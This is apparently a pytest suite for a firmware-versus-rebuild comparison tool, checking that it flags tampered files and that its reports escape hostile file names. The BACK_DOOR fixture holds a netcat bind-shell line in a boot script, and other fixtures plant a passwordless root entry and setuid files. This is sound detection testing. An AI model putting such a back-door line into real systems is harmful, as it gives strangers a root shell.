"""An image and its rebuild in one submission: the verdict, the findings, the ledger and the page; nothing twice."""

from __future__ import annotations

import gzip
import json
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import msgspec
import pytest
from click.testing import CliRunner, Result

from banbury.cli import main
from banbury.compare.corpus.generator import Choice, generate
from banbury.compare.corpus.pairs import Pair
from banbury.intake.tasks import shut_down
from banbury.lab.workspace import Workspace
from banbury.laboratory import Options, evaluate
from banbury.model.evaluation import Evaluation
from banbury.model.rebuild import ComparedFile, Rebuilt
from tests.images import PASSWD, tar_of, uimage

MANIFEST = """
[release]
vendor = "Example"
product = "EX"
version = "1.0"
[[artefact]]
path = "image.bin"
role = "image"
[[artefact]]
path = "source.tar"
role = "source"
"""
REBUILD = '[[artefact]]\npath = "built.bin"\nrole = "rebuild"\nrebuild_of = "image.bin"\n'
NASTY = "etc/<b>\u202etxt"
FILES = {
    "etc/passwd": PASSWD,
    "etc/init.d/S50net": b"#!/bin/sh\n/usr/sbin/netd\n",
    "usr/share/notes.txt": b"plain text\n" * 30,
    NASTY: b"shown as data\n",
}
BACK_DOOR = b"#!/bin/sh\n/usr/sbin/netd\nnc -l -p 4444 -e /bin/sh &\n"


@pytest.fixture(scope="module", autouse=True)
def _workers() -> Iterator[None]:
    yield
    shut_down()


def image(files: dict[str, bytes], level: int = 9, **modes: int) -> bytes:
    chosen = {name.replace("__", "/"): mode for name, mode in modes.items()}
    return uimage(gzip.compress(tar_of(files, chosen), level, mtime=level))


def submission(folder: Path, manifest: str, **files: bytes) -> Path:
    folder.mkdir(exist_ok=True)
    (folder / "source.tar").write_bytes(tar_of({"src/main.c": b"int main(void) { return 0; }\n"}))
    for name, data in files.items():
        path = folder / name.replace("__", "/")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    (folder / "release.toml").write_text(manifest)
    return folder


def run(folder: Path, work: Path) -> Evaluation:
    with Workspace(work) as workspace:
        return evaluate(folder, workspace, options=Options(as_of="2026-01-01"))


def command(*arguments: object) -> Result:
    return CliRunner().invoke(main, [str(a) for a in arguments], catch_exceptions=False)


def only(evaluation: Evaluation) -> Rebuilt:
    assert len(evaluation.rebuilds) == 1
    return evaluation.rebuilds[0]


def by_path(rebuilt: Rebuilt) -> dict[str, ComparedFile]:
    return {f.path: f for f in rebuilt.files}


def test_an_image_that_its_rebuild_equals_but_for_metadata(tmp_path: Path) -> None:
    folder = submission(
        tmp_path / "s", MANIFEST + REBUILD, **{"image.bin": image(FILES, 9), "built.bin": image(FILES, 1)}
    )
    evaluation = run(folder, tmp_path / "w")
    rebuilt = only(evaluation)

    assert (rebuilt.method, rebuilt.verdict) == ("whole", "equivalent/metadata")
    assert {f.verdict for f in rebuilt.files} == {"identical"}
    assert not [
        f for f in evaluation.findings if f.rule in ("rebuild.unexplained", "rebuild.functional", "rebuild.image")
    ]
    assert evaluation.ledger.compared == len(FILES)
    assert [n.of for n in evaluation.ledger.not_compared] == ["source"]


def test_a_back_door_is_a_finding_and_stands_in_ledger_and_page(tmp_path: Path) -> None:
    shipped = {**FILES, "etc/init.d/S50net": BACK_DOOR, "usr/sbin/helper": b"\x00\x01 not in the source"}
    data = {"image.bin": image(shipped, etc__passwd=0o4644), "built.bin": image(FILES)}
    folder = submission(tmp_path / "s", MANIFEST + REBUILD, **data)
    result = command(
        "evaluate", folder, "--workspace", tmp_path / "w", "--no-pdf", "--as-of", "2026-01-01", "--json", "-"
    )
    document = json.loads(result.stdout)
    row = document["rebuilds"][0]
    rules = {
        (f["rule"], f["where"].rpartition("!")[2]) for f in document["findings"] if f["rule"].startswith("rebuild.")
    }

    assert row["verdict"] == "functional"
    assert ("rebuild.functional", "etc/init.d/S50net") in rules
    assert ("rebuild.only-shipped", "usr/sbin/helper") in rules
    assert ("rebuild.special-mode", "etc/passwd") in rules
    gap = [g for g in document["ledger"]["not_checked"] if g["sort"] == "not compared with a rebuild"]
    assert any("usr/sbin/helper" in g["where"] for g in gap)
    evaluations = tmp_path / "w" / "evaluations"
    page = next(evaluations.glob("*/report.html")).read_text("utf-8")
    assert "etc/init.d/S50net" in page
    assert 'id="rebuild"' in page
    explained = next(evaluations.glob("*/equivalence-1.html")).read_text("utf-8")
    assert "nc -l -p 4444 -e /bin/sh" in explained
    assert "<b>\u202e" not in explained
    assert "\u202e" not in page
    whole = json.loads(next(evaluations.glob("*/equivalence-1.json")).read_bytes())
    assert whole["verdict"] == "functional"
    sarif = next(evaluations.glob("*/findings.sarif")).read_text("utf-8")
    assert "rebuild.functional" in sarif
    components = json.loads(next(evaluations.glob("*/sbom.cdx.json")).read_bytes())["components"]
    said = {
        c["name"]: p["value"] for c in components for p in c.get("properties", []) if p["name"] == "banbury:rebuild"
    }
    assert said["etc/init.d/S50net"] == "functional"
    assert said["usr/share/notes.txt"] == "identical"


def test_nothing_is_compared_twice(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from banbury import laboratory
    from banbury.compare.rebuilds import comparing

    worked = []

    def counted(*arguments: object, **named: object) -> comparing.Comparison:
        found = comparing.compare_rebuilds(*arguments, **named)  # type: ignore[arg-type]
        worked.append(found.worked)
        return found

    monkeypatch.setattr(laboratory, "compare_rebuilds", counted)
    shipped = {**FILES, "etc/init.d/S50net": BACK_DOOR}
    data = {"image.bin": image(shipped), "built.bin": image(FILES)}
    folder = submission(tmp_path / "s", MANIFEST + REBUILD, **data)
    first, second = run(folder, tmp_path / "w"), run(folder, tmp_path / "w")

    assert worked[0] > 0
    assert worked[1] == 0
    assert msgspec.json.encode(first) == msgspec.json.encode(second)


def test_files_of_a_folder_are_matched_by_path_and_content(tmp_path: Path) -> None:
    manifest = MANIFEST + '[[artefact]]\npath = "root"\nrole = "rebuild"\n'
    built = {
        "root__etc__passwd": PASSWD,
        "root__etc__init.d__S50net": FILES["etc/init.d/S50net"],
        "root__elsewhere.txt": FILES["usr/share/notes.txt"],
        "root__unused": b"x",
    }
    shipped = {**FILES, "etc/init.d/S50net": BACK_DOOR}
    folder = submission(tmp_path / "s", manifest, **{"image.bin": image(shipped)}, **built)
    evaluation = run(folder, tmp_path / "w")
    rebuilt, files = only(evaluation), by_path(only(evaluation))

    assert (rebuilt.method, rebuilt.verdict) == ("files", "functional")
    assert (files["etc/passwd"].how, files["etc/passwd"].verdict) == ("path", "identical")
    notes = files["usr/share/notes.txt"]
    assert (notes.how, notes.content, notes.verdict) == ("content", "identical", "functional")
    assert [(c.what, c.rebuilt) for c in notes.changes] == [("path", "elsewhere.txt")]
    assert files["etc/init.d/S50net"].content == "functional"
    assert next(f for path, f in files.items() if path.startswith("etc/<b>")).how == "nothing"
    assert [(g.path, g.elsewhere) for g in rebuilt.left_out] == [
        ("elsewhere.txt", "usr/share/notes.txt"),
        ("unused", ""),
    ]
    whys = [n.why for n in evaluation.ledger.not_compared]
    assert any("rebuild is files" in why for why in whys)
    assert any("2 files of the rebuild are not in the image: elsewhere.txt, unused" in why for why in whys)


def test_a_file_put_elsewhere_is_not_the_file_of_the_rebuild(tmp_path: Path) -> None:
    """Its content alone says nothing: a copy of an example starts at boot, a copy of a shell is root's."""
    built = {**FILES, "bin/sh": b"\x00 stands for a shell", "usr/share/doc/open": BACK_DOOR}
    shipped = {**built, "bin/other": built["bin/sh"], "etc/init.d/S99": BACK_DOOR}
    manifest = MANIFEST + '[[artefact]]\npath = "built.tar"\nrole = "rebuild"\n'
    data = {"image.bin": image(shipped, bin__other=0o4755), "built.tar": tar_of(built)}
    evaluation = run(submission(tmp_path / "s", manifest, **data), tmp_path / "w")
    files = by_path(only(evaluation))

    assert only(evaluation).verdict == "functional"
    assert {files[name].verdict for name in ("bin/other", "etc/init.d/S99")} == {"functional"}
    assert {f.verdict for name, f in files.items() if name not in ("bin/other", "etc/init.d/S99")} == {"identical"}
    assert "rebuild.special-mode" in {f.rule for f in evaluation.findings}


def test_of_several_rebuilt_files_of_one_path_none_is_chosen(tmp_path: Path) -> None:
    """A rebuild of something else must not be what makes a shipped file right."""
    other = b"root::0:0::/:/bin/sh\n"
    manifest = MANIFEST + "".join(f'[[artefact]]\npath = "{n}.tar"\nrole = "rebuild"\n' for n in ("one", "two"))
    data = {
        "image.bin": image({**FILES, "etc/passwd": other}),
        "one.tar": tar_of(FILES),
        "two.tar": tar_of({"etc/passwd": other}),
    }
    evaluation = run(submission(tmp_path / "s", manifest, **data), tmp_path / "w")
    found = by_path(only(evaluation))["etc/passwd"]

    assert (found.how, found.verdict) == ("several", "unexplained")  # either may have been meant to replace the other

    data["one.tar"] = tar_of({"etc/passwd": FILES["etc/passwd"], "etc/x": b"x"})
    evaluation = run(submission(tmp_path / "2", manifest, **data), tmp_path / "w2")
    found = by_path(only(evaluation))["etc/passwd"]
    assert (found.how, found.verdict) == ("several", "unexplained")
    assert only(evaluation).verdict == "unexplained"


def test_source_without_a_rebuild_is_said(tmp_path: Path) -> None:
    evaluation = run(submission(tmp_path / "s", MANIFEST, **{"image.bin": image(FILES)}), tmp_path / "w")

    assert only(evaluation).method == "none"
    assert "rebuild.absent" in {f.rule for f in evaluation.findings}
    assert [n.why for n in evaluation.ledger.not_compared] == ["no rebuild of it was handed in"]


@pytest.mark.parametrize(
    ("added", "said"),
    [
        ('[[artefact]]\npath = "built.bin"\nrole = "rebuild"\nrebuild_of = "other.bin"\n', "no image listed"),
        ('[[artefact]]\npath = "built.bin"\nrole = "source"\nplace = "bin/sh"\n', "only a rebuild"),
        ('[[artefact]]\npath = "built.bin"\nrole = "rebuild"\nrecord = "bad.toml"\n', "cannot be used"),
        ('[[artefact]]\npath = "built.bin"\nrole = "rebuild"\nrecord = "../x"\n', "stay inside"),
        ('[[artefact]]\npath = "empty"\nrole = "rebuild"\n', "holds no files"),
    ],
)
def test_a_manifest_that_cannot_be_used_is_one_line(tmp_path: Path, added: str, said: str) -> None:
    files = {"image.bin": image(FILES), "built.bin": image(FILES), "bad.toml": b"clock = 'noon'\n"}
    folder = submission(tmp_path / "s", MANIFEST + added, **files)
    (folder / "empty").mkdir()
    result = command("evaluate", folder, "--workspace", tmp_path / "w")

    assert result.exit_code == 2
    assert said in result.stderr
    assert len(result.stderr.splitlines()) <= 2


def _pair(name: str) -> Pair:
    pair = next(iter(generate(only=Choice(ids=frozenset((name,))))))
    assert isinstance(pair, Pair)
    return pair


def _toml(record: Mapping[str, Any]) -> bytes:
    """What a corpus record declares that a program's rules use, as a build record's TOML."""
    versions = ", ".join(f"{json.dumps(k)} = {json.dumps(v)}" for k, v in record["versions"].items())
    root, tools = json.dumps(record["roots"][0]), json.dumps(record["toolchain"])
    lines = [f"clock = {record['clock']}", f"producers = {tools}", f"roots = {{ build = {root} }}"]
    return "\n".join([*lines, f"versions = {{ {versions} }}"]).encode()


def _program_submission(folder: Path, pair: Pair, *, records: bool) -> Path:
    mine, other = ('record = "shipped.toml"\n', 'record = "built.toml"\n') if records else ("", "")
    manifest = (
        f'[[artefact]]\npath = "image.bin"\nrole = "image"\n{mine}'
        f'[[artefact]]\npath = "tool"\nrole = "rebuild"\nplace = "/usr/sbin/tool"\n{other}'
        '[[artefact]]\npath = "root"\nrole = "rebuild"\n'
    )
    parts = {f"root/{name}": data for name, data in FILES.items()}
    files = {
        "image.bin": image({**FILES, "usr/sbin/tool": pair.b}),
        "tool": pair.a,
        "built.toml": _toml(pair.record_a),
        "shipped.toml": _toml(pair.record_b),
    }
    return submission(folder, manifest, **files, **parts)


def test_a_program_is_shown_to_come_from_the_source_by_its_build_records(tmp_path: Path) -> None:
    pair = _pair("made-x86-64-same-producer")
    rebuilt = only(run(_program_submission(tmp_path / "s", pair, records=True), tmp_path / "w"))
    tool = by_path(rebuilt)["usr/sbin/tool"]

    assert rebuilt.totals is not None
    assert (tool.how, tool.verdict in pair.expected, rebuilt.records) == ("path", True, (True, True))
    assert rebuilt.totals.code == rebuilt.totals.proved_code > 0
    assert rebuilt.totals.proved_share == 1.0
    assert {r.tier for r in rebuilt.reliances} == {"declared"}


def test_without_its_record_or_with_a_changed_program_nothing_is_proved(tmp_path: Path) -> None:
    pair = _pair("made-x86-64-same-producer")
    tampered = _pair("made-x86-64-branch")
    for name, chosen, records in (("plain", pair, False), ("tampered", tampered, True)):
        rebuilt = only(run(_program_submission(tmp_path / name, chosen, records=records), tmp_path / "w"))
        tool = by_path(rebuilt)["usr/sbin/tool"]

        assert rebuilt.totals is not None
        assert tool.verdict in ("functional", "unexplained"), name
        assert (rebuilt.totals.proved_code, rebuilt.totals.proved_share) == (0, 0.0)
        assert rebuilt.totals.code > 0


def test_packages_of_another_version_are_a_premise(tmp_path: Path) -> None:
    """Stated by the image's database and by the package's control file, which are no counterparts of each other."""
    status = b"Package: tool\nVersion: 1.2-1\nStatus: install user installed\nArchitecture: mips_24kc\n"
    control = b"Package: tool\nVersion: 1.3-1\nArchitecture: mips_24kc\nInstalled-Size: 4\nDescription: a tool\n"
    parts = {
        "./debian-binary": b"2.0\n",
        "./control.tar.gz": gzip.compress(tar_of({"./control": control}), mtime=0),
        "./data.tar.gz": gzip.compress(tar_of({"./usr/bin/tool": b"#!/bin/sh\nnew\n"}), mtime=0),
    }
    manifest = MANIFEST + '[[artefact]]\npath = "tool.ipk"\nrole = "rebuild"\n'
    shipped = {**FILES, "usr/lib/opkg/status": status, "usr/bin/tool": b"#!/bin/sh\nold\n"}
    files = {"image.bin": image(shipped), "tool.ipk": gzip.compress(tar_of(parts), mtime=0)}
    evaluation = run(submission(tmp_path / "s", manifest, **files), tmp_path / "w")
    rebuilt = only(evaluation)

    assert [(p.kind, p.subject, p.rebuilt, p.shipped) for p in rebuilt.premises] == [
        ("version", "tool", "1.3-1", "1.2-1")
    ]
    assert by_path(rebuilt)["usr/bin/tool"].content == "functional"
    assert "rebuild.premise" in {f.rule for f in evaluation.findings}
